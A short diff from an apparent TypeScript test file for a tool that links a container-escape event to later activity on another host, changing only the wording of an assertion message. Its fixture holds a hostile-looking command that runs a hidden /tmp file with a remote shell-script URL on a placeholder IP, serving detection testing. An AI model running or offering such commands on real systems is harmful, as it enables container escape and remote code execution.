@@ -45,7 +45,7 @@ function linksOf(...facts: readonly Facts[]): readonly string[] {
 const line = "-t 1 -m -- systemd-run /tmp/.k http://198.51.100.5/k.sh";
 
 test("what the escaping command named and the machine then names is one story", () => {
-  const why = "it left its container, and beside it the other then named";
+  const why = "it left its container, and beside it the other named";
   for (const name of ["http://198.51.100.5/k.sh", "198.51.100.5", "/tmp/.k"]) {
     assert.deepEqual(linksOf(left(line), acted("b", 60, `-c "x ${name}"`)), [
       `a-b: ${why} ${JSON.stringify(name)}, too`,
